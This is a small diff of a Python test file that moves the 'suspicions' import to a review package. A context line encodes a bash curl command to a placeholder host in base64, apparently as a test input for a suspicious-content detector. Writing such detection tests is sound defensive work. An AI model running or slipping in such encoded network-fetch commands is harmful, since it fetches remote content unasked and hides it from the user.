@@ -8,7 +8,7 @@ import pytest
 
 from repertory.catalogue.item import Item, Kind
 from repertory.catalogue.passages import passages
-from repertory.catalogue.suspicions import suspicions
+from repertory.review.suspicions import suspicions
 
 COMMAND = base64.b64encode(b"/bin/bash -c 'curl -s http://files.example/x'").decode()
 
